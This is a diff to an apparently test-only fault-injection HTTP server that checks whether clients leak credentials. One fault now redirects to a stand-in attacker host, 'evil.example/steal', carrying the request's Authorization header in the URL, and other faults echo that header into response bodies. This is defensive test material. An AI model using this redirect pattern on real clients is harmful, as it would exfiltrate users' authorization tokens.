@@ -13,7 +13,7 @@ import time
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import TYPE_CHECKING, Protocol
-from urllib.parse import parse_qsl, unquote, urlsplit
+from urllib.parse import parse_qsl, quote, unquote, urlsplit
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Mapping
@@ -134,6 +134,8 @@ def fails(
     gives a byte now and then; ``elsewhere`` redirects to another host, ``words`` is a page for people; a number
     answers with that status, ``429 5`` with a Retry-After.
     """
+    # What comes back may hold what was sent: a client that tells it must not tell that.
+    echo = handler.headers.get("authorization") or ""
     if fault in ("never", "stalls", "drips"):
         keeps_waiting(handler, fault, answer, server)
         return
@@ -154,14 +156,14 @@ def fails(
         handler.close_connection = True
         return
     if fault == "elsewhere":
-        send(handler, Reply(307, {}, {"location": "http://evil.example/steal"}))
+        where = f"http://evil.example/steal/{quote(echo)}?as={quote(echo)}"
+        send(handler, Reply(307, {}, {"location": where}))
         return
     if fault == "words":
-        send(handler, Reply(200, "<html>maintenance</html>"))
+        send(handler, Reply(200, f"{echo} <html>maintenance</html>"))
         return
     if fault:
         status, _, wait = fault.partition(" ")
-        echo = handler.headers.get("authorization") or ""
         body = {"error": {"code": "X/1", "message": f"No today. {echo}"}}
         send(handler, Reply(int(status), body, {"retry-after": wait} if wait else {}))
         return
